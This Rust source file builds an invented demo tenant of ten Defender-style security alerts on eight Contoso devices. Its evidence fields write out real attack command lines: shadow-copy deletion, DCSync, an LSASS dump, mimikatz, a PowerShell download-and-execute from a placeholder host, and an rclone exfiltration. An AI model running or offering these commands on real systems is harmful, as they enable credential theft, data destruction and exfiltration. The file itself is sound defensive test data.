//! The tenant of the demonstration: ten alerts on eight devices of Contoso, minutes old, one for each thing that
//! a playbook has to tell apart; and what the hunts that ship would find there.
//!
//! Invented, in the shape of Microsoft's examples; nothing is recorded from a real tenant.

mod hunts;

use jiff::{SignedDuration, Timestamp};

use crate::entities::{Alert, Behaviour, Evidence, Machine, RelatedUser};
use crate::world::World;

const SYSTEM32: &str = "C:\\Windows\\System32";

/// Ten alerts created in the minutes before `now`. The clock stands still; set `World::clock` for a real one.
pub fn demo_world(now: Timestamp) -> World {
    let machines = machines(now);
    let alerts = alerts(now, &machines);
    let tables = hunts::tables(now, &machines);
    let [finance, dc, kiosk, build, sales, front, lab, field] = machines;
    let mut world = World::new(now);
    world.machines = vec![finance, dc, kiosk, build, sales, front, lab, field];
    world.alerts = alerts;
    world.tables = tables;
    world
}

fn machines(now: Timestamp) -> [Machine; 8] {
    let machine = |id: &str, name: &str, platform: &str, address: &str| {
        let mut machine = Machine::new(id, name, platform, now - SignedDuration::from_mins(42));
        machine.last_ip_address = Some(address.to_owned());
        for known in &mut machine.ip_addresses {
            known.ip_address = address.to_owned();
        }
        machine
    };
    let mut dc = machine(
        "2f86b7d8c0b14b4b9e6a1d3c5f7082941a3b5c02",
        "dc01.contoso.com",
        "WindowsServer2022",
        "10.1.0.10",
    )
    .group(141, "Servers");
    dc.device_value = Some("High".to_owned());
    dc.version = Some("21H2".to_owned());
    dc.os_build = Some(20_348);
    dc.is_aad_joined = Some(false);
    let mut kiosk = machine(
        "3c97c8e9d1c25c5caf7b2e4d60819305b4c6d703",
        "press-line-3.contoso.com",
        "Windows10",
        "10.4.3.21",
    )
    .group(142, "Production floor")
    .tag("cordon-exclude");
    kiosk.version = Some("22H2".to_owned());
    kiosk.os_build = Some(19_045);
    [
        machine(
            "1a75a6c7bfa03a3a8d590c2b4e6f718309a2b401",
            "fin-ws-0114.contoso.com",
            "Windows11",
            "10.2.11.14",
        ),
        dc,
        kiosk,
        machine(
            "4da8d9fae2d36d6db08c3f5e71920416c5d7e804",
            "build-ws-07.contoso.com",
            "Windows11",
            "10.2.30.7",
        ),
        machine(
            "5eb9ea0bf3e47e7ec19d406f82a31527d6e8f905",
            "営業-ノート-12.contoso.com",
            "Windows11",
            "10.2.40.12",
        ),
        machine(
            "6fcafb1c04f58f8fd2ae517093b42638e7f90a06",
            "frontdesk-02.contoso.com",
            "Windows10",
            "10.2.50.2",
        ),
        machine(
            "70db0c2d15069090e3bf6281a4c53749f80a1b07",
            "hr-ws-0031.contoso.com",
            "Windows11",
            "10.2.60.31",
        ),
        machine(
            "81ec1d3e261701a1f4c07392b5d6485a091b2c08",
            "field-lt-0209.contoso.com",
            "Windows11",
            "10.9.2.9",
        )
        .behaviour(Behaviour::Offline),
    ]
}

fn alerts(now: Timestamp, machines: &[Machine; 8]) -> Vec<Alert> {
    let [finance, dc, kiosk, build, sales, front, hr, field] = machines;
    vec![
        story(now, 1, 9, finance, "Ransomware-linked activity: backups deleted and files being encrypted")
            .about("Ransomware", &["T1486", "T1490"], "A process deleted the volume shadow copies and then rewrote many user files within a short time.")
            .by("anna.meyer", |at| vec![
                process(at, SYSTEM32, "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "invoice_0226.exe"),
                process(at, "C:\\Users\\anna.meyer\\Downloads", "invoice_0226.exe", "\"C:\\Users\\anna.meyer\\Downloads\\invoice_0226.exe\" -all -skip sys", "outlook.exe"),
                file(at, "C:\\Users\\anna.meyer\\Downloads", "invoice_0226.exe", "5b1f0a6c3d9e48277a60b1c4de35f8092b7c6e01"),
                Evidence::ip(at, "203.0.113.77"),
            ]),
        story(now, 2, 8, dc, "Suspicious replication request against the directory")
            .about("CredentialAccess", &["T1003.006"], "An account that is no domain controller asked for the replication of directory secrets.")
            .by("svc-sync", |at| vec![
                process(at, "C:\\ProgramData\\sync", "adsync32.exe", "adsync32.exe --dcsync --user krbtgt --password Winter2026!", "cmd.exe"),
                file(at, "C:\\ProgramData\\sync", "adsync32.exe", "6c201b7d4eaf59388b71c2d5ef46091a3c8d7f02"),
                Evidence::ip(at, "10.2.11.14"),
            ]),
        story(now, 3, 8, kiosk, "Suspicious service registration")
            .about("Persistence", &["T1543.003"], "A service was registered that starts a program from a folder every user can write to.")
            .by("operator3", |at| vec![
                process(at, SYSTEM32, "sc.exe", "sc.exe create WinHlpr binPath= C:\\Users\\Public\\hlp.exe start= auto", "cmd.exe"),
                Evidence::registry(at, "SYSTEM\\CurrentControlSet\\Services\\WinHlpr", "C:\\Users\\Public\\hlp.exe"),
                file(at, "C:\\Users\\Public", "hlp.exe", "7d312c8e5fb06a499c82d3e6f0571a2b4d9e8003"),
            ]),
        resolved(
            story(now, 4, 14, build, "Suspicious process injection observed")
                .about("DefenseEvasion", &["T1055"], "A process wrote code into another one; the debugger of a build tool was found to be the cause.")
                .by("li.wei", |at| vec![
                    process(at, "C:\\BuildTools", "dbghost.exe", "dbghost.exe /attach 4120", "devenv.exe"),
                ]),
            now,
        ),
        story(now, 5, 7, sales, "不審な PowerShell コマンド ライン")
            .about("Execution", &["T1059.001"], "A suspicious PowerShell command line was observed on the device.")
            .by("田中太郎", |at| vec![
                process(at, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0", "powershell.exe", "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('https://cdn.files.example/a.ps1')\"", "winword.exe"),
                Evidence::url(at, "https://cdn.files.example/a.ps1"),
            ])
            .severity("Medium"),
        story(now, 6, 6, front, "Unwanted software was prevented")
            .about("UnwantedSoftware", &[], "An installer that brings unwanted software was stopped before it ran.")
            .by("reception", |at| vec![
                file(at, "C:\\Users\\reception\\Downloads", "free-pdf-setup.exe", "8e423d9f60c17b5aad93e4f701682b3c5eaf9104"),
            ])
            .severity("Informational"),
        story(now, 7, 6, hr, "Suspicious access to LSASS service")
            .about("CredentialAccess", &["T1003.001"], "A process read the memory of the Local Security Authority, where credentials are kept.")
            .by("björn.åkesson", |at| vec![
                process(at, SYSTEM32, "rundll32.exe", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full", "cmd.exe"),
                file(at, "C:\\temp", "l.dmp", "9f534ea071d28c6bbea4f50812793c4d6fb0a205"),
            ]),
        story(now, 8, 5, hr, "Credential theft tool launched")
            .about("CredentialAccess", &["T1003"], "A program known for the theft of credentials was started.")
            .by("björn.åkesson", |at| vec![
                process(at, "C:\\temp", "mk.exe", "mk.exe \"sekurlsa::logonpasswords\" exit", "cmd.exe"),
                file(at, "C:\\temp", "mk.exe", "a0645fb182e39d7ccfb5061923804d5e70c1b306"),
                Evidence::ip(at, "198.51.100.23"),
            ])
            .with_incident_of(7),
        story(now, 9, 4, field, "Hands-on-keyboard activity: remote control tool installed")
            .about("CommandAndControl", &["T1219"], "A remote control tool was installed silently and connected to an address with a bad reputation.")
            .by("carlos.ruiz", |at| vec![
                process(at, SYSTEM32, "msiexec.exe", "msiexec.exe /i C:\\Users\\Public\\rc.msi /qn ID=7741", "powershell.exe"),
                Evidence::ip(at, "192.0.2.140"),
            ]),
        custom(
            story(now, 10, 3, finance, "Contoso: finance share read by an unusual process")
                .about("Collection", &["T1039"], "A hunting query of the customer's own matched on this device.")
                .by("anna.meyer", |at| vec![
                    process(at, "C:\\Users\\anna.meyer\\AppData\\Local\\Temp", "rclone.exe", "rclone.exe copy \\\\files\\finance remote:out --transfers 16", "cmd.exe"),
                    Evidence::url(at, "https://storage.example/upload"),
                ]),
        ),
    ]
}

/// The alert with this number in the demonstration, created so many minutes before `now`.
fn story(now: Timestamp, number: i64, minutes: i64, machine: &Machine, title: &str) -> Alert {
    let created = now - SignedDuration::from_mins(minutes) + SignedDuration::from_nanos(123_456_700 * number);
    let first = created - SignedDuration::from_secs(64);
    let id =
        format!("da6389{:014}_{}", 10_203_040_506 * number, 271_828_183 * (1 - 2 * (number % 2)) + number);
    Alert {
        incident_id: Some(4_200 + number),
        detector_id: Some(format!("17e10bbc-3a68-474a-8aad-{number:012}")),
        first_event_time: Some(first),
        last_event_time: Some(first + SignedDuration::from_millis(31_250)),
        ..Alert::new(id, "", created)
    }
    .on(machine)
    .title(title)
    .updated(created + SignedDuration::from_millis(1_480))
}

impl Alert {
    fn about(mut self, category: &str, techniques: &[&str], description: &str) -> Alert {
        self.category = Some(category.to_owned());
        self.mitre_techniques = techniques.iter().map(|technique| (*technique).to_owned()).collect();
        self.description = description.to_owned();
        self
    }

    /// The user, and evidence made at the time of the first event.
    fn by(mut self, user: &str, evidence: impl FnOnce(Timestamp) -> Vec<Evidence>) -> Alert {
        let Some(at) = self.first_event_time else { return self };
        self.related_user =
            Some(RelatedUser { user_name: user.to_owned(), domain_name: "CONTOSO".to_owned() });
        let person = Evidence {
            user_sid: Some(format!("S-1-5-21-1111760036-109187956-75141-{}", 1_000 + user.len())),
            user_principal_name: Some(format!("{user}@contoso.com")),
            ..Evidence::user(at, "CONTOSO", user)
        };
        self.evidence = std::iter::once(person).chain(evidence(at)).collect();
        self
    }

    fn with_incident_of(mut self, number: i64) -> Alert {
        self.incident_id = Some(4_200 + number);
        self
    }
}

fn resolved(mut alert: Alert, now: Timestamp) -> Alert {
    let at = now - SignedDuration::from_mins(5);
    alert.status = "Resolved".to_owned();
    alert.resolved_time = Some(at);
    alert.last_update_time = Some(at);
    alert.assigned_to = Some("secop@contoso.com".to_owned());
    alert.classification = Some("InformationalExpectedActivity".to_owned());
    alert.determination = Some("LineOfBusinessApplication".to_owned());
    alert
}

fn custom(mut alert: Alert) -> Alert {
    alert.id = format!("ed{}", alert.id.trim_start_matches("da"));
    alert.detection_source = Some("CustomDetection".to_owned());
    alert
}

fn process(at: Timestamp, folder: &str, name: &str, command_line: &str, parent: &str) -> Evidence {
    Evidence {
        sha1: Some(digest(name, 40)),
        sha256: Some(digest(name, 64)),
        process_id: Some(3_276),
        parent_process_id: Some(8_420),
        parent_process_creation_time: Some(at),
        parent_process_file_name: Some(parent.to_owned()),
        parent_process_file_path: Some(SYSTEM32.to_owned()),
        ..Evidence::process(at, folder, name, command_line)
    }
}

fn file(at: Timestamp, folder: &str, name: &str, sha1: &str) -> Evidence {
    Evidence { sha256: Some(digest(name, 64)), ..Evidence::file(at, folder, name, sha1) }
}

/// Looks like a hash, always the same for the same text.
fn digest(text: &str, digits: usize) -> String {
    let seed = text.bytes().fold(7_u64, |seed, byte| seed.wrapping_mul(31).wrapping_add(u64::from(byte)));
    let mut rng = fastrand::Rng::with_seed(seed);
    (0..digits).map(|_| rng.digit(16)).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_demo_has_the_ten_alerts_it_promises() {
        let now: Timestamp = "2026-03-01T12:00:00Z".parse().unwrap();
        let world = demo_world(now);
        assert_eq!(world.alerts.len(), 10);
        let said: Vec<(&str, &str)> =
            world.alerts.iter().map(|alert| (alert.severity.as_str(), alert.status.as_str())).collect();
        assert_eq!(said.iter().filter(|said| **said == ("High", "New")).count(), 7);
        assert_eq!(said[3], ("High", "Resolved"));
        assert_eq!((said[4].0, said[5].0), ("Medium", "Informational"));
        assert_eq!(world.alerts[6].machine_id, world.alerts[7].machine_id);
        let machine = |index: usize| {
            let alert: &Alert = &world.alerts[index];
            world.find_machine(alert.machine_id.as_deref().unwrap()).unwrap()
        };
        assert_eq!(machine(0).os_platform.as_deref(), Some("Windows11"));
        assert_eq!(machine(1).os_platform.as_deref(), Some("WindowsServer2022"));
        assert_eq!(machine(2).machine_tags, ["cordon-exclude"]);
        assert_eq!(machine(8).behaviour, Behaviour::Offline);
        assert_eq!(world.alerts[9].detection_source.as_deref(), Some("CustomDetection"));
        for (alert, machine) in world.alerts.iter().zip((0..10).map(machine)) {
            assert_eq!(machine.id.len(), 40);
            assert!(!alert.title.is_empty() && !alert.evidence.is_empty());
            let (digits, number) = alert.id.trim_start_matches(['d', 'a', 'e']).split_once('_').unwrap();
            assert_eq!(digits.len(), 18);
            number.parse::<i32>().unwrap();
            assert!(alert.alert_creation_time.unwrap() < now);
            assert!(alert.last_update_time.unwrap() < now);
        }
    }
}
